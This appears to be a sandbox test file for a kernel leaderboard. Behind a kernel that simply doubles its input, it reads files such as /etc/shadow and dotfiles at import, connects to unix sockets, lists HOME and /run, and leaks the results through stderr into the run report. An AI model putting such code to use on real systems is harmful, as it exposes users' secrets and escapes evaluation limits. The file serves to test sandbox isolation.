#!POPCORN leaderboard double
"""Attack (class: what of the machine a run can read or reach). Honest kernel: it doubles.

At import it tries to read every path in POPKIT_ATTACK_READ (the user's dotfiles, another project's files,
/etc/shadow, a secret beside a module in a PYTHONPATH folder) and to connect to every unix socket in
POPKIT_ATTACK_CONNECT (an agent's socket in HOME, in a PYTHONPATH folder, under /run), and lists HOME and /run.
It writes what it reached and listed on stderr (`reached: ...`, `listed HOME: ...`), which reaches the run's report. Before the root built from
nothing, every mount of the machine was visible read-only: it read them all, as root /etc/shadow too, and a
listening socket answered. Caught by: the sandbox's root shows only what the eval needs, HOME as an empty
folder, a PYTHONPATH folder's modules alone, fresh /run and /tmp.
"""

import os
import socket
import sys


def reach() -> list[str]:
    reached = []
    for path in filter(None, os.environ.get("POPKIT_ATTACK_READ", "").split(":")):
        try:
            with open(path, "rb") as f:
                reached.append(f"read {path}: {f.read(64)!r}")
        except OSError:
            pass
    for path in filter(None, os.environ.get("POPKIT_ATTACK_CONNECT", "").split(":")):
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(path)
                reached.append(f"connected {path}: {s.recv(64)!r}")
        except OSError:
            pass
    return reached


def listed(folder: str) -> list[str]:
    try:
        return sorted(os.listdir(folder))
    except OSError:
        return []


print("reached: " + ("; ".join(reach()) or "nothing"), file=sys.stderr)
print(f"listed HOME: {listed(os.environ.get('HOME', ''))}; listed /run: {listed('/run')}", file=sys.stderr)


def custom_kernel(data):
    return 2 * data
